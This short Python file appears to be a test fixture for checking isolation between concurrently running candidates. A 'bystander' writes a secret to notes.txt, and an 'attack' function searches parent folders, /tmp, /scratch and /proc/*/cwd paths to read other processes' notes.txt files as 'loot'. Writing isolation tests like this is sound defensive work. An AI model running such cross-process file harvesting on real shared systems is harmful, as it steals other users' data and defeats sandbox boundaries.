"""Read what a candidate that runs beside this one has written into its scratch folder."""

import contextlib
import glob
import time


def bystander(target, secret):
    with open("notes.txt", "w") as file:
        file.write(secret)
    time.sleep(0.6)
    return "unharmed"


def attack(target):
    loot = []
    for place in ["../*", "/tmp/*", "/tmp/*/*", "/scratch", "/scratch/*", "/proc/*/cwd", "/proc/*/root/scratch"]:
        for path in glob.glob(f"{place}/notes.txt"):
            with contextlib.suppress(OSError), open(path) as file:
                loot.append(file.read())
    return loot
